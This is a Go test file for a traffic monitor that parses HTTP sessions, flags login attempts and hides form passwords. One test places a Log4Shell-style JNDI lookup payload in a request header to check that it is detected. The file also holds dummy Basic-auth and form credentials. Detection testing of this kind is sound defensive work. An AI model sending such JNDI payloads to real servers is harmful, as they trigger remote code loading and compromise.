package flow

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"sekisho/firmware/flow/flowtest"
)

// web plays a connection: "> bytes" from the client, "< bytes" from the server.
func web(k *talker, lines ...string) {
	next := [2]uint32{100, 500}
	for _, l := range lines {
		dir := strings.Index("><", l[:1])
		k.tcp(dir, FlagACK|FlagPSH, next[dir], []byte(l[1:]))
		next[dir] += uint32(len(l) - 1)
	}
}

func get(path string) string { return ">GET " + path + " HTTP/1.1\r\nHost: a\r\n\r\n" }

func TestEveryRequestAndReplyOfAConnectionIsRead(t *testing.T) {
	k := newTalker(8080)
	web(k, get("/1"),
		"<HTTP/1.1 200 OK\r\nServer: x\r\nContent-Type: text/plain\r\nContent-Length: 30\r\n\r\nHTTP/1.1 500 ", "<is only text here",
		get("/2")+get("/3")[1:],
		"<HTTP/1.1 304 Not Modified\r\nContent-Length: 99\r\n\r\nHTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
		">POST /4 HTTP/1.1\r\nContent-Length: 14\r\n\r\nGET /", ">no HTTP/1", get("/5"))
	k.want(t, "http GET a /1 []",
		`reply 1 status=200 text/plain [x] auth= body="HTTP/1.1 500 "`,
		"http GET a /2 []", "http GET a /3 []",
		`reply 2 status=304  [] auth= body=""`,
		`reply 3 status=404  [] auth= body=""`,
		"http POST  /4 []", "http GET a /5 []")
}

func TestRequestsAreFoundAgainAfterAGapOrABodyWithoutLength(t *testing.T) {
	k := newTalker(80)
	web(k, get("/1"), "<HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n", "<4\r\nHTTP\r\n0\r\n\r\n")
	k.tcp(0, FlagACK, 5000, []byte("somewhere inside a body"))
	k.tcp(0, FlagACK, 5023, []byte(get("/2")[1:]))
	k.tcp(1, FlagACK, 9000, []byte("HTTP/1.1 204 No Content\r\n\r\n"))
	k.want(t, "http GET a /1 []", `reply 1 status=200  [] auth= body="hello\r\n"`,
		"http GET a /2 []", `reply 2 status=204  [] auth= body=""`)
}

func TestAConnectionThatWasMetInTheMiddleIsReadFromItsNextRequest(t *testing.T) {
	k := &talker{track: New(Config{}), port: 80}
	web(k, ">the end of an upload", "<and of a page", get("/2"), "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
	k.want(t, "http GET a /2 []", `reply 1 status=200  [] auth= body=""`)
}

func TestRequestTargets(t *testing.T) {
	k := newTalker(3128)
	web(k, ">CONNECT mail.example:25 / HTTP/1.0\r\n\r\n")
	k.want(t, "http CONNECT  mail.example:25 / []")
	k = newTalker(3128)
	web(k, ">GET ftp://amy:"+secret+"@files.example/a@b HTTP/1.1\r\n\r\n")
	k.want(t, "http GET  ftp://files.example/a@b []")
	k = newTalker(554)
	web(k, ">OPTIONS rtsp://camera/ RTSP/1.0\r\n\r\n")
	k.want(t)
}

func TestLookupsInAnyHeaderFieldAreShown(t *testing.T) {
	k := newTalker(8080)
	var seen []string
	k.hook = func(ev Event) {
		if e, ok := ev.(*HTTP); ok {
			seen = append(seen, e.Lookup)
		}
	}
	web(k, ">GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://x/a}\r\nX-B: ${b}\r\n\r\n", ">GET / HTTP/1.1\r\nX-Price: 3 $\r\n\r\n")
	if len(seen) != 2 || seen[0] != "${jndi:ldap://x/a}" || seen[1] != "" {
		t.Errorf("saw %q", seen)
	}
}

func TestWhatComesBehindDataInASYNIsRead(t *testing.T) {
	k := &talker{track: New(Config{}), port: 80}
	first := []byte(get("/1")[1:])
	k.tcp(0, FlagSYN, 99, first)
	ip := flowtest.IP{Src: hostB, Dst: hostA, Proto: ProtoTCP}
	back := flowtest.Segment{SrcPort: 80, DstPort: 40000, Seq: 499, Ack: 100 + uint32(len(first)), Flags: FlagSYN | FlagACK}
	k.frame(ether.Frame(0x0800, ip.Packet(back.Bytes(nil))))
	k.tcp(0, FlagACK, 100+uint32(len(first)), []byte(get("/2")[1:]))
	k.want(t, "http GET a /2 []")
}

func TestWhoAsksIsTheClientWhateverThePorts(t *testing.T) {
	for _, first := range []int{0, 1} {
		k := &talker{track: New(Config{}), port: 50000} // above the client's
		var clients []uint16
		k.hook = func(ev Event) {
			if e, ok := ev.(*Conn); ok && e.State == ConnEstablished {
				clients = append(clients, e.Client.Port())
			}
		}
		lines := []string{get("/1"), "<HTTP/1.1 204 No\r\n\r\n"}
		web(k, lines[first:]...)
		if len(clients) != 1 || clients[0] != 40000 || len(k.seen) != 2-first {
			t.Errorf("clients %v, saw %q", clients, k.seen)
		}
	}
}

func TestTheRequestsOfOneConnectionAreBounded(t *testing.T) {
	k := newTalker(80)
	var lines []string
	for i := range maxRequests + 5 {
		lines = append(lines, get(fmt.Sprintf("/%d", i)))
	}
	web(k, lines...)
	if len(k.seen) != maxRequests || k.track.Stats().DeepSkipped != 1 {
		t.Errorf("%d requests, %d skipped", len(k.seen), k.track.Stats().DeepSkipped)
	}
}

func TestWhatATunnelCarriesIsReadToo(t *testing.T) {
	k := newTalker(3128)
	hello := ">" + string(flowtest.ClientHello("shop.example", 600))
	web(k, ">CONNECT shop.example:443 HTTP/1.1\r\n\r\n", "<HTTP/1.1 200 OK\r\n\r\n", hello)
	k.want(t, "http CONNECT  shop.example:443 []", `reply 1 status=200  [] auth= body=""`, helloSeen)
}

func TestTheResultOfBasicAuthorisationIsInTheStatus(t *testing.T) {
	request := ">GET /manager HTTP/1.1\r\nAuthorization: Basic dG9tY2F0OnMzY3JldA==\r\n\r\n" // tomcat:s3cret
	denied := "<HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\nContent-Length: 0\r\n\r\n"
	k := newTalker(8180)
	web(k, get("/"), denied, request, denied, request, "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
	tried := `login http basic user="tomcat" result=0 clear=true server=false`
	seen := `reply %d status=401  [] auth=basic body=""`
	k.want(t, "http GET a / []", fmt.Sprintf(seen, 1),
		"http GET  /manager []", tried, fmt.Sprintf(seen, 2), `login http basic user="tomcat" result=2 clear=true server=true`,
		"http GET  /manager []", tried, `reply 3 status=200  [] auth= body=""`, `login http basic user="tomcat" result=1 clear=true server=true`)
}

func TestDigestAndNTLMNameTheUserAndHideTheSecret(t *testing.T) {
	ntlm := make([]byte, 64)
	copy(ntlm, "NTLMSSP\x00\x03\x00\x00\x00")
	ntlm[36], ntlm[38], ntlm[40] = 3, 3, 64 // user, in the OEM character set
	ntlm[20] = 24                           // there is an NT response
	request := func(auth string) string {
		return ">GET /wsman HTTP/1.1\r\nAuthorization: " + auth + "\r\n\r\n"
	}
	k := newTalker(5985)
	web(k, request("Negotiate "+base64.StdEncoding.EncodeToString([]byte("NTLMSSP\x00\x01\x00\x00\x00"))),
		"<HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n",
		request("Negotiate "+base64.StdEncoding.EncodeToString(append(ntlm, "amy"...))),
		"<HTTP/1.1 503 Later\r\nContent-Length: 0\r\n\r\n",
		request(`Digest username="bob", realm="x", response="00"`), "<HTTP/1.1 403 No\r\nContent-Length: 0\r\n\r\n",
		request("Bearer abc"), "<HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n")
	var logins []string
	for _, l := range k.seen {
		if strings.HasPrefix(l, "login") {
			logins = append(logins, l)
		}
	}
	want := []string{`login http negotiate user="amy" result=0 clear=false server=false`,
		`login http digest user="bob" result=0 clear=false server=false`, `login http digest user="bob" result=1 clear=false server=true`}
	if !slices.Equal(logins, want) {
		t.Errorf("saw %q", logins)
	}
}

func TestPasswordsOfFormsAreToldButNotShown(t *testing.T) {
	form := "user=amy&password=hunter2&go=1"
	head := fmt.Sprintf("POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n", len(form))
	logins := 0
	for _, parts := range [][]string{{">" + head + form}, {">" + head, ">" + form}, {">GET /in?u=1&passwd=hunter2 HTTP/1.1\r\n\r\n"},
		{">" + strings.Replace(head, "x-www-form-urlencoded", "json", 1) + `{"u": "amy", "password": "hunter2,\"x"}`}} {
		k := newTalker(80)
		var body []byte
		emit := func(ev Event) {
			switch e := ev.(type) {
			case *HTTP:
				body = append([]byte(e.Path), e.Body...)
			case *Login:
				if logins++; e.Mechanism != "form" || !e.Cleartext || e.User != "" {
					t.Errorf("log-in %+v", e)
				}
			}
		}
		k.hook = emit
		web(k, parts...)
		if strings.Contains(string(body), "hunter2") {
			t.Errorf("the password is in %q", body)
		}
	}
	if logins != 4 {
		t.Errorf("%d log-ins in four forms", logins)
	}
	k := newTalker(80)
	web(k, ">POST /s HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 12\r\n\r\nsearch=passw")
	k.want(t, "http POST  /s []")
}

// However a conversation is cut into segments, it means the same.
func TestCutsDoNotChangeWhatAConversationMeans(t *testing.T) {
	client := get("/1")[1:] + "POST /2 HTTP/1.1\r\nHost: a\r\nContent-Length: 20\r\n\r\nGET / HTTP/1.1\r\n\r\nab" + get("/3")[1:]
	rapid.Check(t, func(t *rapid.T) {
		k := newTalker(80)
		at := 0
		for tries := 0; at < len(client); tries++ {
			n := rapid.IntRange(20, 60).Draw(t, "n")
			k.tcp(0, FlagACK, uint32(100+at), []byte(client[at:min(at+n, len(client))]))
			at += n
		}
		want := []string{"http GET a /1 []", "http POST a /2 []", "http GET a /3 []"}
		if fmt.Sprint(k.seen) != fmt.Sprint(want) {
			t.Errorf("saw %q", k.seen)
		}
	})
}
